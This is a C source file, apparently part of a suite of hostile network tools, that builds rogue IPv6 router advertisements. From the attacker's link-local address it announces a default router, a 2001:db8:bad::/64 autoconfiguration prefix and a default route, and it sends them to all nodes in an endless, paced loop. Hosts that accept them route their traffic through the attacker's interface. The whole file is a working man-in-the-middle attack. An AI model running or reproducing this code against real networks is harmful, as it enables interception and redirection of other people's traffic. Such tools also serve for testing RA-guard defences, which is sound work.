/* SPDX-License-Identifier: MIT */
/*
 * IPv6 router advertisements to all nodes from the attacker's link-local
 * address: default router for 30 minutes, a /64 prefix for address
 * autoconfiguration (2001:db8:bad::/64) and a route information option.
 * A host that accepts them takes a default route and a global address
 * through denali0. Forever, paced.
 */
#include "hostile.h"

static uint8_t f[160];

int main(void)
{
	uint8_t mac[6], src[16], *ip6, *p;
	unsigned int len = 16 + 8 + 32 + 24;
	unsigned long round;

	hostile_own_mac(mac);
	hostile_ll6(src, mac);
	memset(f, 0, sizeof(f));
	ip6 = hostile_eth(f, hostile_allnodes_mac, mac, ETH_P_IPV6);
	p = hostile_ipv6(ip6, 58, 255, src, hostile_allnodes, len);
	p[0] = 134;			/* router advertisement */
	p[4] = 64;			/* current hop limit */
	hostile_put16(p + 6, 1800);	/* router lifetime, s */
	p += 16;
	p[0] = 1;			/* source link-layer address */
	p[1] = 1;
	memcpy(p + 2, mac, 6);
	p += 8;
	p[0] = 3;			/* prefix information */
	p[1] = 4;
	p[2] = 64;
	p[3] = 0xc0;			/* on-link, autonomous */
	hostile_put32(p + 4, 86400);
	hostile_put32(p + 8, 14400);
	p[16] = 0x20;
	p[17] = 0x01;
	p[18] = 0x0d;
	p[19] = 0xb8;
	p[20] = 0x0b;
	p[21] = 0xad;
	p += 32;
	p[0] = 24;			/* route information: ::/0 */
	p[1] = 3;
	hostile_put32(p + 4, 1800);
	p = ip6 + 40;
	hostile_put16(p + 2, hostile_csum6(ip6, 58, len));
	printf("ra: advertising\n");
	for (round = 1;; round++) {
		hostile_send(f, 14 + 40 + len);
		hostile_pace("ra", round, 20000);
	}
}
